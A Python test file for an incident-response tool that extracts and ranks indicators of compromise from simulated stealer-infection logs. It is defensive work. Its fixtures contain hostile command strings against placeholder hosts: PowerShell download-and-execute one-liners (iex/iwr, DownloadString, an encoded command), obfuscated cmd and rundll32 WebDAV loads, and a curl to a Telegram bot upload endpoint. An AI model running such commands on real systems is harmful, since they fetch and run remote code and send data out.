"""What goes out to be searched for and blocked: typed, spelled in one way, and nothing that others need."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

import builders as b
from douse.incident.contacts import named_in, value_at
from douse.incident.indicators import ROLES
from douse.incident.payloads import digest_of, is_own
from douse.indicators.values import value_of
from douse.model import Event, Incident, Indicator, Value
from incident.stories import LURE_SERVER, MSHTA, POWERSHELL, REGASM, SERVER, TELEGRAM, Story, lumma

SETUP = "C:\\Users\\anna\\Downloads\\setup.exe"
HASHES = f"MD5={'1' * 32},SHA256={'A' * 64},IMPHASH={'3' * 32}"
RUN = f"{b.ANNA.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync"


def values(incident: Incident, kind: str) -> list[str]:
    return [one.value for one in incident.indicators if one.type == kind]


def the(incident: Incident, value: str) -> Indicator:
    (found,) = (one for one in incident.indicators if one.value == value)
    return found


def blocked(incident: Incident) -> set[str]:
    return {one.value for one in incident.indicators if one.block}


def started(ran: b.Process, hashes: str = HASHES, **more: str) -> Event:
    """Sysmon 1 with the hashes of the image."""
    plain = b.process_start(ran)
    fields: dict[str, Value] = {**plain.fields, "Hashes": hashes, **more}
    return b.event(b.SYSMON, 1, ran.seconds, fields)


def installer(hashes: str = HASHES, image: str = SETUP, **more: str) -> tuple[Story, b.Process]:
    """A program from the downloads folder that connects somewhere."""
    story, ran = Story(), b.process(image, 700, 0, b.explorer())
    story.alert(started(ran, hashes, **more), "X", "Program Started From Downloads", "high")
    story.alert(b.connection(ran, 2, SERVER), "R", "Odd Program Connected", "high")
    return story, ran


def test_the_whole_chain() -> None:
    incident = lumma().incident()
    assert blocked(incident) == {SERVER, "verify.example", "https://verify.example/a.mp3"}
    assert the(incident, SERVER).role == "destination"
    assert the(incident, SERVER).process == "RegAsm.exe (5008)"
    assert the(incident, "verify.example").role == "delivery"
    assert the(incident, "verify.example").process == "mshta.exe (5000)"
    dead_drop = the(incident, "t.me")
    assert (dead_drop.role, dead_drop.block) == ("dead-drop", False)
    assert "which others need" in dead_drop.reason
    assert TELEGRAM not in values(incident, "ipv4-addr"), "an address that the dead drop's name has"
    assert the(incident, LURE_SERVER).block is False, "its name is blocked"
    assert "verify.example" in the(incident, LURE_SERVER).reason
    assert values(incident, "file") == [], "mshta, powershell and RegAsm are everybody's"


def test_each_has_its_proof_and_time_and_those_to_block_come_first() -> None:
    incident = lumma().incident()
    order = [one.block for one in incident.indicators]
    assert order == sorted(order, reverse=True)
    for one in incident.indicators:
        assert set(one.alert_ids) <= set(incident.alert_ids)
        assert incident.first_seen <= one.first_seen <= one.last_seen <= incident.last_seen
        assert one.role in ROLES
        assert one.reason


def test_the_order_of_alerts_changes_nothing() -> None:
    story = lumma()
    assert Story(story.events, story.alerts[::-1]).incident().indicators == story.incident().indicators


def test_what_a_value_is_when_it_goes_out_it_is_when_it_comes_in() -> None:
    for one in lumma().incident().indicators:
        if one.type in ("domain-name", "url", "ipv4-addr", "ipv6-addr", "file"):
            assert value_of(one.value) == (one.type, one.value)


def test_an_attackers_file_is_known_by_hash_and_path() -> None:
    story, _ = installer()
    incident = story.incident()
    assert values(incident, "file") == ["a" * 64]
    assert the(incident, "a" * 64).block
    assert the(incident, SETUP).role == "payload"
    assert not the(incident, SETUP).block


@pytest.mark.parametrize("image", [
    MSHTA, REGASM, POWERSHELL, "C:\\Program Files\\Vendor\\app.exe",
    "C:\\Users\\anna\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe", "setup.exe"])
def test_a_program_that_others_have_is_no_indicator(image: str) -> None:
    story, _ = installer(image=image)
    assert values(story.incident(), "file") == []
    assert image not in values(story.incident(), "file-path")


@pytest.mark.parametrize(("image", "more", "says"), [
    ("C:\\Users\\anna\\AppData\\Local\\Temp\\1\\Nervous.pif", {"OriginalFileName": "AutoIt3.exe"}, "AutoIt3.exe"),
    ("C:\\Users\\anna\\AppData\\Local\\Temp\\py\\pythonw.exe", {}, "pythonw.exe, which others use"),
    ("C:\\Users\\anna\\x.exe", {"Company": "Microsoft Corporation"}, "Microsoft"),
])
def test_the_hash_of_everybodys_program_is_not_blocked(image: str, more: dict[str, str], says: str) -> None:
    story, _ = installer(image=image, **more)
    found = the(story.incident(), "a" * 64)
    assert not found.block
    assert says in found.reason


def test_hashes_are_read_from_sysmons_list() -> None:
    assert digest_of(HASHES) == "a" * 64
    assert digest_of(f"SHA1={'b' * 40},MD5={'1' * 32}") == "b" * 40
    assert digest_of(f"MD5={'1' * 32}") == "1" * 32
    assert digest_of(f"IMPHASH={'3' * 32}") == digest_of("") == digest_of(f"SHA256={'a' * 63}") == ""


def test_dropped_files_and_autostart_entries_are_searched_for() -> None:
    story, ran = installer()
    copy = "C:\\Users\\anna\\AppData\\Roaming\\Sync\\sync.exe"
    story.log(b.file_drop(ran, 3, copy), b.file_drop(ran, 3, "C:\\Users\\anna\\AppData\\Local\\Temp\\a.dll"),
              b.file_drop(ran, 3, "C:\\Users\\anna\\__PSScriptPolicyTest_abcdefgh.xyz.ps1"),
              b.file_drop(b.explorer(), 3, "C:\\Users\\anna\\Downloads\\holiday.exe"))
    story.alert(b.registry_set(ran, 4, RUN, f'"{copy}" /background'), "P", "Autostart Entry")
    incident = story.incident()
    assert set(values(incident, "file-path")) == {SETUP, copy, "C:\\Users\\anna\\AppData\\Local\\Temp\\a.dll"}
    assert values(incident, "registry-key") == [f"HKU\\{RUN}"]
    key = the(incident, f"HKU\\{RUN}")
    assert (key.role, key.block) == ("persistence", False)


def test_a_deleted_key_and_a_task() -> None:
    story, ran = installer()
    gone = b.event(b.SYSMON, 12, 5, {"ProcessGuid": ran.guid, "ProcessId": str(ran.pid), "Image": ran.image,
                                     "EventType": "DeleteValue", "TargetObject": f"HKU\\{RUN}"})
    story.alert(gone, "P", "Entry Deleted")
    task = "<Exec><Command>mshta</Command><Arguments>https://again.example/b</Arguments></Exec>"
    story.alert(b.event(b.SECURITY, 4698, 6, {"TaskName": "\\Sync", "TaskContent": task, "SubjectUserSid": b.ANNA.sid,
                                              "SubjectLogonId": hex(b.ANNA.logon)}), "P", "Task Registered")
    incident = story.incident()
    assert values(incident, "registry-key") == []
    assert the(incident, "C:\\Windows\\System32\\Tasks\\Sync").role == "persistence"
    assert "https://again.example/b" in values(incident, "url")
    assert not the(incident, "again.example").block, "only user and time connect it"


def test_what_a_stealer_copies_is_no_payload() -> None:
    story, ran = installer()
    copy = "C:\\Users\\anna\\AppData\\Local\\Temp\\Login Data"
    story.alert(b.file_drop(ran, 3, copy), "C", "Copied", store="chromium")
    assert values(story.incident(), "file-path") == [SETUP]


@pytest.mark.parametrize(("command", "page", "site"), [
    ("https://cdn.discordapp.com/attachments/1/2/x.bin", "https://cdn.discordapp.com/attachments/1/2/x.bin",
     "cdn.discordapp.com"),
    ("https://pastebin.com/raw/abc", "https://pastebin.com/raw/abc", "pastebin.com"),
    ("https://raw.githubusercontent.com/a/b/x.ps1", "https://raw.githubusercontent.com/a/b/x.ps1",
     "raw.githubusercontent.com"),
])
def test_of_a_public_site_only_the_page_is_blocked(command: str, page: str, site: str) -> None:
    story = Story()
    power = b.process(POWERSHELL, 500, 0, b.explorer(), f"powershell iex (iwr '{command}')")
    story.alert(b.process_start(power), "X", "Download", "high", stage=1)
    story.alert(b.connection(power, 1, "198.51.100.9"), "R", "Connected", "high", stage=1)
    story.alert(b.connection(power, 2, "198.51.100.8", hostname=site), "R", "Connected", "high", stage=1)
    story.read(power, 3, "C:\\Users\\anna\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", "chromium")
    incident = story.incident()
    assert blocked(incident) == {page}
    assert "which others need" in the(incident, site).reason
    assert site in the(incident, "198.51.100.9").reason, "it may be the site's own address"
    assert "198.51.100.8" not in values(incident, "ipv4-addr")


def test_a_tenants_name_is_blocked_and_not_its_host() -> None:
    story, ran = installer()
    story.alert(b.dns_query(ran, 5, "bad-worker.workers.dev", "198.51.100.50;"), "R", "Odd name")
    found = the(story.incident(), "bad-worker.workers.dev")
    assert found.block
    assert "not workers.dev" in found.reason
    assert "bad-worker.workers.dev" in the(story.incident(), "198.51.100.50").reason


def test_an_answer_that_is_not_in_the_log_blocks_nothing() -> None:
    story = Story()
    regasm = b.process(REGASM, 500, 0, b.explorer())
    story.alert(b.process_start(regasm), "I", "Odd Start", "high")
    story.alert(b.dns_query(regasm, 1, "t.me"), "R", "Dead drop", "high", role="dead-drop")
    story.alert(b.connection(regasm, 2, "198.51.100.9"), "I", "Connected", "high")
    story.alert(b.connection(regasm, 9, SERVER), "I", "Connected", "high")
    incident = story.incident()
    assert blocked(incident) == {SERVER}
    assert "dead drop's own address" in the(incident, "198.51.100.9").reason


def test_own_hosts_and_private_addresses_are_none() -> None:
    story, ran = installer()
    for address, name in (("10.0.0.9", "files.corp.example"), ("192.168.1.4", ""), ("198.51.100.60", b.HOST.lower()),
                          ("fe80::1", ""), ("127.0.0.1", "localhost"), ("2001:db8::9", "")):
        story.alert(b.connection(ran, 5, address, hostname=name), "R", f"Connected to {address}", "high")
    story.alert(b.connection(ran, 6, "198.51.100.61", outbound=False), "R", "From outside", "high")
    incident = story.incident()
    assert values(incident, "domain-name") == []
    assert values(incident, "ipv4-addr") == [SERVER]
    assert values(incident, "ipv6-addr") == ["2001:db8::9"]


def test_weak_incidents_block_nothing() -> None:
    story = Story()
    mshta = b.process(MSHTA, 500, 0, b.explorer(), "mshta https://verify.example/a")
    story.alert(b.process_start(mshta), "X", "Mshta", "low")
    incident = story.incident()
    assert set(values(incident, "url")) == {"https://verify.example/a"}
    assert blocked(incident) == set()
    assert "look at it first" in the(incident, "verify.example").reason


def test_an_indicator_from_outside_comes_out_again() -> None:
    story, ran = installer()
    fields: dict[str, Value] = {**b.connection(ran, 4, SERVER).fields, "IndicatorType": "ipv4-addr",
                                "IndicatorValue": SERVER, "IndicatorSource": "feed.txt:1"}
    story.alert(b.event(b.SYSMON, 3, 4, fields), "R", "Indicator seen", "high", role="ioc")
    network = {**fields, "IndicatorValue": "203.0.113.0/24"}
    story.alert(b.event(b.SYSMON, 3, 5, network), "R", "Indicator seen, a network", "high", role="ioc")
    digest = {**started(ran).fields, "IndicatorType": "file", "IndicatorValue": "a" * 64}
    story.alert(b.event(b.SYSMON, 1, 0, digest), "V", "Indicator seen: file", "high", role="ioc")
    incident = story.incident()
    assert values(incident, "ipv4-addr") == [SERVER]
    assert len(the(incident, SERVER).alert_ids) == 3
    assert values(incident, "file") == ["a" * 64]


def test_a_known_hash_of_windows_own_program_is_not_blocked() -> None:
    story = Story()
    mshta = b.process(MSHTA, 500, 0, b.explorer())
    fields: dict[str, Value] = {**started(mshta).fields, "IndicatorType": "file", "IndicatorValue": "a" * 64}
    story.alert(b.event(b.SYSMON, 1, 0, fields), "V", "Indicator seen: file", "high", role="ioc")
    story.alert(b.connection(mshta, 1, SERVER), "R", "Connected", "high")
    assert "a" * 64 not in blocked(story.incident())


def test_a_proxys_request_is_a_url() -> None:
    story, _ = installer()
    url = f"http://bad.example:8080/gate.php?id=7&token={'x' * 30}"
    fields: dict[str, Value] = {"cs-method": "POST", "cs-host": "bad.example", "c-uri": f"{url}, /gate.php",
                                "dst_port": "8080", "dst_ip": "198.51.100.44", "src_ip": "10.0.0.15",
                                "User": b.ANNA.name}
    story.alert(b.event("Proxy/access", 0, 5, fields), "R", "Request", "high")
    incident = story.incident()
    assert values(incident, "url") == ["http://bad.example:8080/gate.php"]
    assert values(incident, "domain-name") == ["bad.example"]


ENCODED = base64.b64encode("iwr https://hidden.example/p".encode("utf-16-le")).decode()


@pytest.mark.parametrize(("text", "found"), [
    ("mshta https://verify.example/a.mp3 # human", ["https://verify.example/a.mp3"]),
    ("cmd /c h^t^t^p://bad.example/x&&start y", ["http://bad.example/x"]),
    ("IEX(New-Object Net.WebClient).DownloadString('http://a.example/s')", ["http://a.example/s"]),
    ("iex (iwr http://a.example/p).Content", ["http://a.example/p"]),
    ("curl http://a.example/a_(b)/c", ["http://a.example/a_(b)/c"]),
    ("curl https://user:secret@a.example/x#part", ["https://a.example/x"]),
    ("curl https://a.example/x?id=7", ["https://a.example/x?id=7"]),
    ("curl https://a.example/x?password=Hunter2", ["https://a.example/x"]),
    (f"curl https://a.example/x?q={'k' * 40}", ["https://a.example/x"]),
    (f"curl https://api.telegram.org/bot123456789:{'A' * 35}/sendDocument", ["https://api.telegram.org/"]),
    ("iwr http://a.example/1,http://b.example/2", ["http://a.example/1", "http://b.example/2"]),
    ("mshta verify.example/x", ["verify.example"]),
    ("curl 203.0.113.7/x -o y", ["203.0.113.7"]),
    ("rundll32 \\\\bad.example@SSL\\DavWWWRoot\\x.dll,Main", ["bad.example"]),
    (f"powershell -enc {ENCODED}", ["https://hidden.example/p"]),
    ("notepad readme.txt", []), ("cmd /c dir C:\\x.y/z", []), ("curl file.exe/x", []), ("", []),
    ("iwr http://10.0.0.1/x http://localhost/x http://printer/x", []),
    ("Invoke-WebRequest http://[2001:db8::5]:8080/x", ["http://[2001:db8::5]:8080/x"]),
    ("mshta https://bücher.example/x", ["https://xn--bcher-kva.example/x"]),
])
def test_what_a_text_names(text: str, found: list[str]) -> None:
    assert [one.value for one in named_in(text)] == found


def test_names_in_xml_are_no_places() -> None:
    story, _ = installer()
    story.alert(b.event(b.SECURITY, 4698, 6, {
        "TaskName": "\\Sync", "TaskContent": '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
        "SubjectLogonId": hex(b.ANNA.logon)}), "P", "Task Registered")
    assert values(story.incident(), "url") == []


@pytest.mark.parametrize("unit", ["http://", "a.", "a-", "curl a.b/", "\\\\a.", "mshta x.y:1/z ", "A" * 30 + " ", ",http://a",
                                  "https://a.example/?" + "%41" * 20, "[::", "bot12345678:A"])
def test_hostile_texts_take_no_time(unit: str) -> None:
    text = (unit * 4096)[:4096]
    begun = time.process_time()
    named_in(text)
    assert time.process_time() - begun < 0.5


@given(st.text(max_size=300))
def test_any_text_gives_only_valid_values(text: str) -> None:
    for one in named_in(text):
        assert value_of(one.value) == one
    found = value_at(text)
    assert found is None or value_of(found.value) == found
    assert is_own(text) in (True, False)


@pytest.mark.parametrize(("address", "block"), [("8.8.8.8", False), ("2606:4700:4700::1111", False), (SERVER, True)])
def test_a_public_name_server_is_not_blocked(address: str, block: bool) -> None:
    story, ran = Story(), b.process(SETUP, 700, 0, b.explorer())
    story.alert(started(ran), "X", "Program Started From Downloads", "high")
    story.alert(b.connection(ran, 2, address), "R", "Odd Program Connected", "high")
    assert the(story.incident(), address).block is block
